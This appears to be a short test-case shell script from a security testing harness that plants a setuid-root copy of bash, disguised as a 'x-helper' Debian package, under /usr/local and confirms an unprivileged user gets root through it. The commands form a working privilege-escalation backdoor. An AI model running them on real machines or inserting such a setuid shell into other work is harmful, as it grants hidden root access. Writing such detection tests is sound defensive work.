#!/bin/sh
. /opt/case/case.sh

mkdir -p /tmp/p/DEBIAN /tmp/p/lib/x && printf 'Package: x-helper\nVersion: 1\nArchitecture: all\nMaintainer: a <a@example.org>\nDescription: x\n' >/tmp/p/DEBIAN/control
cp /bin/bash /tmp/p/lib/x/helper && chmod 4755 /tmp/p/lib/x/helper
dpkg-deb -Znone -b /tmp/p /tmp/x.deb >/dev/null && rm -r /tmp/p
dpkg-deb -x /tmp/x.deb /usr/local && rm /tmp/x.deb
setpriv --reuid 1000 --regid 1000 --clear-groups /usr/local/lib/x/helper -p -c 'id -u' | grep -qx 0
took_place
